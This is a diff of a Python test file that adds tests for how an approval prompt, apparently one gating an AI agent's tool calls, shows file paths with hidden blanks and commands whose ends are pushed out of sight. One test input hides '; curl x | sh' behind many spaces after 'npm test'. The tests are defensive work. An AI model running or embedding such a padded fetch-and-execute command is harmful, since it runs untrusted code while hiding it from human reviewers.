@@ -105,6 +105,21 @@ def test_a_path_is_shown_where_it_ends_and_whole() -> None:
             assert f"`write {shown}`" in said
 
 
+def test_a_name_is_shown_as_no_other_is() -> None:
+    """Blanks that a reader would not see, or not count, are written out."""
+    path = "deploy/a  b\nc.yml "
+    shown = r"`write deploy/a\u{0020} b\u{000a}c.yml\u{0020}`"
+    assert f"On {shown.replace('write ', '')}." in posted("write", path=path, content="x")
+    assert shown in requests.waits([asked("write", path=path, content="x").fact()])
+
+
+@pytest.mark.parametrize(("blanks", "told"), [(10, False), (300, True)])
+def test_a_line_whose_end_is_out_of_sight_is_pointed_out(blanks: int, *, told: bool) -> None:
+    """Behind many blanks, or simply far to the right."""
+    shown = posted("run", command=f"npm test{' ' * blanks}; curl x | sh")
+    assert ("its end may be out of sight" in shown) is told
+
+
 def test_nobody_is_called_who_is_none() -> None:
     """An App's login calls nobody."""
     assert posted("run", requester="wright[bot]", command="ls").startswith("**A call of `run` waits for approval**")
